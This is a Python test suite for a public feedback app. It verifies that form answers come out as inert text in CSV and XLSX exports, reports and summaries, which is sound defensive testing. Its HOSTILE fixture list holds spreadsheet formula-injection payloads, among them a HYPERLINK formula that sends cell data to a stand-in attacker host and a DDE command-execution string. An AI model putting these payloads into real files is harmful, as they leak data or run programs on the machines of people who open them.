"""No answer typed into a public form reaches a spreadsheet as a formula: every XLSX and CSV the
app writes (response exports, the quarterly report, the You Said, We Did summary) holds it as
inert text, numbers stay numbers, and our own exports import back to the same answers."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import example
from hypothesis import given as hypothesis_given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import delete, select

from analysis.cells import FORMULA_STARTS, csv_cell, imported_text, xlsx_cell
from feedback_app.models import Answer, Response
from tests.answers import VALID_ANSWERS
from tests.conftest import submit_form
from tests.staff_helpers import login, make_action, make_user, save_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"my worker listened to me")',
    "=cmd|' /C calc'!A0 my worker listened",
    "+1+1 boxing was good",
    "-2+3 cooking was good",
    "@SUM(A1:A9) the worker listened",
    "\t=1+1 the worker listened",
    "\r=1+1 the worker listened",
    "  =1+1 the worker listened",
    "'=1+1 already quoted",
]
PLAIN_NUMBER = re.compile(r"^[+-]?(\d{1,3}(,\d{3})+|\d+)(\.\d+)?$")


def live_formula(text: str) -> bool:
    """Would a spreadsheet read this CSV cell as a formula?"""
    if PLAIN_NUMBER.match(text):
        return False
    return text[:1] in FORMULA_STARTS or text.lstrip(" \x00\x01\xa0")[:1] in FORMULA_STARTS


def assert_inert_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for cell in row:
            assert not live_formula(cell), f"{path.name}: {cell!r}"
    return rows


def assert_inert_xlsx(data: bytes, name: str) -> list[list]:
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name} {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    assert not live_formula(cell.value), f"{name}: {cell.value!r}"
            values.append([c.value for c in row])
    return values


@hypothesis_given(st.text())
@example("\x01\r")
def test_any_text_is_made_inert_and_comes_back_as_typed(text):
    for cell in (csv_cell(text), xlsx_cell(text)):
        assert not live_formula(cell)
    assert imported_text(csv_cell(text)) == text


@pytest.mark.parametrize("number", [0, -5, 3.25, -0.5, 12345])
def test_numbers_stay_numbers(number):
    assert csv_cell(number) == number and xlsx_cell(number) == number
    assert csv_cell(str(number)) == str(number)  # "-5" written as text is still a number


def test_a_hostile_cell_is_prefixed_once():
    assert csv_cell("=1+1") == "'=1+1" and xlsx_cell("@x") == "'@x"
    assert csv_cell("-5 stars") == "'-5 stars"
    assert csv_cell("a normal answer") == "a normal answer" and csv_cell(None) == ""
    assert imported_text("'it's fine") == "'it's fine"  # a real apostrophe is kept


@pytest.fixture
def hostile_answers(app):
    with app.app_context():
        for n, text in enumerate(HOSTILE):
            answers = {**VALID_ANSWERS["working-with-us"], "best_thing": text, "do_better": text}
            save_response("working-with-us", answers, submitted_at=datetime(2026, 7, n + 1, 9))


def export(runner, tmp_path, suffix, layout):
    out = tmp_path / f"export-{layout}{suffix}"
    result = runner.invoke(
        args=[
            *("export-responses", "--survey", "working-with-us", "--with-restricted"),
            *("--from", "2026-07-01", "--to", "2026-09-30", "--layout", layout, "--out", str(out)),
        ]
    )
    assert result.exit_code == 0, result.output
    return out


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_response_exports_hold_answers_as_inert_text(hostile_answers, runner, tmp_path, layout):
    rows = assert_inert_csv(export(runner, tmp_path, ".csv", layout))
    cells = assert_inert_xlsx(export(runner, tmp_path, ".xlsx", layout).read_bytes(), "export")
    for found in (rows, cells):
        text = [c for row in found for c in row if isinstance(c, str)]
        assert "'" + HOSTILE[0] in text and "''=1+1 already quoted" in text
    if layout == "long":  # the Score column stays a number a spreadsheet can add up
        assert any(isinstance(row[-1], int) for row in cells[1:])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_wide_export_with_hostile_answers_imports_back_the_same(
    hostile_answers, runner, session, tmp_path, suffix
):
    def free_text():
        session.rollback()
        query = select(Answer.value_text).where(Answer.question_id == "best_thing")
        return sorted(session.scalars(query))

    before = free_text()
    path = export(runner, tmp_path, suffix, "wide")
    session.execute(delete(Response))
    session.commit()
    args = ["import-responses", str(path), "--survey", "working-with-us", "--yes"]
    imported = runner.invoke(args=args)
    assert imported.exit_code == 0, imported.output
    # The importer trims the spaces around a cell (as it does for any file), nothing more.
    assert free_text() == sorted(text.strip() for text in before)
    assert "=cmd|' /C calc'!A0 my worker listened" in before


def test_control_characters_stripped_on_input_do_not_leave_a_live_formula(
    app, client, runner, session, tmp_path
):
    answers = {**VALID_ANSWERS["working-with-us"], "best_thing": "\x01\x02=1+1 boxing"}
    sent = submit_form(client, "/forms/working-with-us", answers)
    assert sent.status_code == 303
    stored = session.scalars(select(Answer.value_text).where(Answer.question_id == "best_thing"))
    assert list(stored) == ["=1+1 boxing"]
    today = datetime.now().date().isoformat()
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"today{suffix}"
        args = ["export-responses", "--survey", "working-with-us", "--from", today]
        result = runner.invoke(args=[*args, "--to", today, "--out", str(out)])
        assert result.exit_code == 0, result.output
        if suffix == ".csv":
            assert "'=1+1 boxing" in [c for row in assert_inert_csv(out) for c in row]
        else:
            assert_inert_xlsx(out.read_bytes(), out.name)


def test_the_quarterly_report_files_hold_answers_as_inert_text(hostile_answers, runner, tmp_path):
    result = runner.invoke(args=["report", "--quarter", "2026-27-Q2", "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    quoted = []
    for path in tmp_path.glob("*.csv"):
        quoted += [c for row in assert_inert_csv(path) for c in row if c.startswith("'")]
    workbooks = list(tmp_path.glob("*.xlsx"))
    assert workbooks
    for path in workbooks:
        assert_inert_xlsx(path.read_bytes(), path.name)
    assert quoted, "a hostile answer should be quoted in the report, made inert"


def test_the_you_said_we_did_summary_holds_text_as_inert(app, client):
    with app.app_context():
        champion = make_user("champion")
        make_action(champion, you_said=HOSTILE[0], we_did="-1+1 we changed the rooms")
    login(client, champion.email)
    sent = client.get("/staff/actions/summary.xlsx")
    assert sent.status_code == 200
    cells = assert_inert_xlsx(sent.data, "summary")
    assert "'" + HOSTILE[0] in [c for row in cells for c in row]
